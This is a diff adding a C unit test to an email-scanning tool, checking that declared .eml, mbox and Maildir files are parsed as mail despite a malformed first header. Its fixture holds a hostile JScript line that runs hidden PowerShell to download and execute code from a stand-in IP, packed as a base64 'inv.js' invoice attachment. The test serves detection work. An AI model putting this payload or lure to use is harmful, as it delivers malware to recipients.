@@ -8,6 +8,7 @@
 #include <stdint.h>
 #include <cmocka.h>
 
+#include "mail_builder.h"
 #include "testutil.h"
 
 #include <jansson.h>
@@ -185,6 +186,49 @@ static void extract_writes_safe_names_0600(void **st)
     free(out);
 }
 
+/* What is declared a mail (a .eml file, an mbox or Maildir entry) is parsed as one even when
+ * content sniffing would not call it a mail: here a first header line that is no field. The
+ * script in the base64 part is only seen when the mail is parsed. */
+static void declared_mails_are_parsed(void **st)
+{
+    (void)st;
+    static const char js[] = "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
+                             "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
+    char *b64 = eg_mb_base64((const uint8_t *)js, sizeof js - 1, true);
+    char mail[8192];
+    snprintf(mail, sizeof mail,
+             "this first line is no header field\n"
+             "From: a@example.net\nTo: b@example.jp\nSubject: invoice\nMIME-Version: 1.0\n"
+             "Content-Type: multipart/mixed; boundary=\"XX\"\n\n--XX\nContent-Type: text/plain\n\n"
+             "see attachment\n--XX\nContent-Type: application/octet-stream; name=\"inv.js\"\n"
+             "Content-Disposition: attachment; filename=\"inv.js\"\n"
+             "Content-Transfer-Encoding: base64\n\n%s\n--XX--\n",
+             b64);
+    free(b64);
+    writef("odd.eml", mail);
+    char *out = NULL;
+    assert_int_equal(emoguard("scan --format json odd.eml", &out), 2);
+    assert_non_null(strstr(out, "MAIL.HEADER_MALFORMED"));
+    assert_null(strstr(out, "INPUT.NOT_MAIL"));
+    free(out);
+    char mbox[9000];
+    snprintf(mbox, sizeof mbox, "From a@b Mon Jul  1 10:00:00 2024\n%s\n", mail);
+    writef("odd.mbox", mbox);
+    assert_int_equal(emoguard("scan --format json odd.mbox", &out), 2);
+    free(out);
+    char d[4096];
+    snprintf(d, sizeof d, "%s/md", tmp);
+    const char *const one[] = {mail};
+    assert_int_equal(eg_mb_maildir(d, one, 1), 0);
+    assert_int_equal(emoguard("scan --format json md", &out), 2);
+    free(out);
+    /* the same bytes under a name that says nothing: sniffed, and not taken for a mail */
+    writef("odd.dat", mail);
+    assert_true(emoguard("scan --format json odd.dat", &out) < 2);
+    assert_non_null(strstr(out, "INPUT.NOT_MAIL"));
+    free(out);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -194,6 +238,7 @@ int main(void)
         cmocka_unit_test(unreadable_inputs_exit_4),
         cmocka_unit_test(directory_and_parallel_order),
         cmocka_unit_test(mbox_and_stdin),
+        cmocka_unit_test(declared_mails_are_parsed),
         cmocka_unit_test(extract_writes_safe_names_0600),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
